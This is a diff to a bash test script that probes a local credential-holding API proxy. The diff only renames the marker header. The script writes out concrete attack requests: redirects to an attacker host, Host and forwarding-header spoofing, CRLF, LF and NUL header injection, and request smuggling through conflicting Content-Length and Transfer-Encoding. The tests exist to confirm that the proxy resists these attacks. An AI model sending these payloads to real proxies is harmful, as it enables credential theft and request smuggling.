@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
 # The helper's ports: the proxy at 8787, which has the credential, and the probes' at 8788. Sourced by run.sh.
-# x-probe marks what reaches the upstream, so that the test can look at it there; @@ in a request is the attacker's server, which no other test has.
+# x-claude-code-probe marks what reaches the upstream, so that the test can look at it there; @@ in a request is the attacker's server, which no other test has.
 # shellcheck disable=SC2154
 
 small='{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"scenario:text"}]}]}'
@@ -23,7 +23,7 @@ turned_away() {
 probe helper-answers "asks for what it may: else refusals would prove nothing"
 helper-answers() {
   local answer
-  answer=$(post 'x-probe: plain @@\r\n')
+  answer=$(post 'x-claude-code-probe: plain @@\r\n')
   echo "$answer"
   [ "$(code <<<"$answer")" = 200 ] || breach "no 200: $answer"
 }
@@ -76,8 +76,8 @@ helper-connect() {
 
 probe helper-absolute-form "names another server in the request line"
 helper-absolute-form() {
-  http 127.0.0.1 8787 "POST http://$ATTACKER/v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-probe: absolute @@\r\nContent-Length: ${#small}\r\n\r\n$small"
-  http 127.0.0.1 8787 "POST http://user:x@$ATTACKER/v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-probe: absolute @@\r\nContent-Length: ${#small}\r\n\r\n$small"
+  http 127.0.0.1 8787 "POST http://$ATTACKER/v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-claude-code-probe: absolute @@\r\nContent-Length: ${#small}\r\n\r\n$small"
+  http 127.0.0.1 8787 "POST http://user:x@$ATTACKER/v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-claude-code-probe: absolute @@\r\nContent-Length: ${#small}\r\n\r\n$small"
   http 127.0.0.1 8787 "GET http://$ATTACKER/v1/models HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\n\r\n"
   http 127.0.0.1 8787 "GET //$ATTACKER/v1/models HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\n\r\n"
   http 127.0.0.1 8787 "GET @$ATTACKER/v1/models HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\n\r\n"
@@ -88,40 +88,40 @@ helper-host() {
   local header
   for header in "X-Forwarded-Host: $ATTACKER" "X-Forwarded-Server: $ATTACKER" "Forwarded: host=$ATTACKER" "X-Original-URL: http://$ATTACKER/" "X-Rewrite-URL: /v1/organizations" \
     "X-Host: $ATTACKER" "X-HTTP-Method-Override: DELETE" "Destination: http://$ATTACKER/" "Location: http://$ATTACKER/" "Host: $ATTACKER" "Referer: http://$ATTACKER/"; do
-    post "$header\r\nx-probe: host @@\r\n"
+    post "$header\r\nx-claude-code-probe: host @@\r\n"
   done
-  http 127.0.0.1 8787 "POST /v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-probe: host @@\r\nContent-Length: ${#small}\r\n\r\n$small"
+  http 127.0.0.1 8787 "POST /v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-claude-code-probe: host @@\r\nContent-Length: ${#small}\r\n\r\n$small"
 }
 
 probe helper-own-credential "sends credentials of its own, to be billed to somebody else or to see both"
 helper-own-credential() {
-  post 'x-probe: own @@\r\nAuthorization: Bearer sk-ant-oat01-attacker\r\nx-api-key: sk-ant-api03-attacker\r\nCookie: sessionKey=attacker\r\nProxy-Authorization: Basic YTph\r\napi-key: attacker\r\n'
-  post 'x-probe: own @@\r\nAUTHORIZATION: Bearer sk-ant-oat01-attacker\r\nX-Api-Key: a\r\nX-Api-Key: b\r\nauthorization: Bearer c\r\n'
+  post 'x-claude-code-probe: own @@\r\nAuthorization: Bearer sk-ant-oat01-attacker\r\nx-api-key: sk-ant-api03-attacker\r\nCookie: sessionKey=attacker\r\nProxy-Authorization: Basic YTph\r\napi-key: attacker\r\n'
+  post 'x-claude-code-probe: own @@\r\nAUTHORIZATION: Bearer sk-ant-oat01-attacker\r\nX-Api-Key: a\r\nX-Api-Key: b\r\nauthorization: Bearer c\r\n'
 }
 
 probe helper-connection-header "names the credential's header in Connection, for hops to drop"
 helper-connection-header() {
   local answer
-  answer=$(http 127.0.0.1 8787 "POST /v1/messages HTTP/1.1\r\nHost: x\r\nConnection: close, authorization, x-api-key, anthropic-beta\r\nx-probe: connection @@\r\nContent-Length: ${#small}\r\n\r\n$small")
+  answer=$(http 127.0.0.1 8787 "POST /v1/messages HTTP/1.1\r\nHost: x\r\nConnection: close, authorization, x-api-key, anthropic-beta\r\nx-claude-code-probe: connection @@\r\nContent-Length: ${#small}\r\n\r\n$small")
   echo "$answer"
   [ "$(code <<<"$answer")" = 200 ] || breach "$answer"
 }
 
 probe helper-header-injection "ends header lines within header values, folds them, and leaves colons out"
 helper-header-injection() {
-  post 'x-probe: injection @@\r\nx-a: b\rAuthorization: Bearer attacker\r\n'
-  post 'x-probe: injection @@\r\nx-a: b\nX-Smuggled: lf\r\n'
-  post 'x-probe: injection @@\r\nx-a: b\r\n X-Smuggled: folded\r\n'
-  post 'x-probe: injection @@\r\nx-a: b\0X-Smuggled: nul\r\n'
-  post 'x-probe: injection @@\r\nx a b\r\n: empty\r\nx-b : c\r\n'
-  post 'x-probe: injection @@\r\nanthropic-beta: a\r\nanthropic-beta: b, oauth-2025-04-20\rX-Smuggled: beta\r\n'
+  post 'x-claude-code-probe: injection @@\r\nx-a: b\rAuthorization: Bearer attacker\r\n'
+  post 'x-claude-code-probe: injection @@\r\nx-a: b\nX-Smuggled: lf\r\n'
+  post 'x-claude-code-probe: injection @@\r\nx-a: b\r\n X-Smuggled: folded\r\n'
+  post 'x-claude-code-probe: injection @@\r\nx-a: b\0X-Smuggled: nul\r\n'
+  post 'x-claude-code-probe: injection @@\r\nx a b\r\n: empty\r\nx-b : c\r\n'
+  post 'x-claude-code-probe: injection @@\r\nanthropic-beta: a\r\nanthropic-beta: b, oauth-2025-04-20\rX-Smuggled: beta\r\n'
 }
 
 probe helper-smuggling "hides a second request in a body, by contradicting lengths"
 helper-smuggling() {
   local hidden='GET /v1/organizations?smuggled HTTP/1.1\r\nHost: x\r\n\r\n'
   hide() { limit=2 http 127.0.0.1 8787 "$1"; } # some leave the proxy waiting for more
-  local head='POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-probe: smuggling @@\r\n'
+  local head='POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-claude-code-probe: smuggling @@\r\n'
   hide "${head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden" &
   hide "${head}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n$hidden" &
   hide "${head}Transfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\nabc$hidden" &
@@ -182,6 +182,6 @@ helper-probe-port() {
 
 probe helper-response "looks at all headers of an answer"
 helper-response() {
-  post 'x-probe: response @@\r\n' | grep -ai -E '^(authorization|x-api-key|set-cookie|cookie|www-authenticate):' && breach "one of them is in it"
+  post 'x-claude-code-probe: response @@\r\n' | grep -ai -E '^(authorization|x-api-key|set-cookie|cookie|www-authenticate):' && breach "one of them is in it"
   return 0
 }
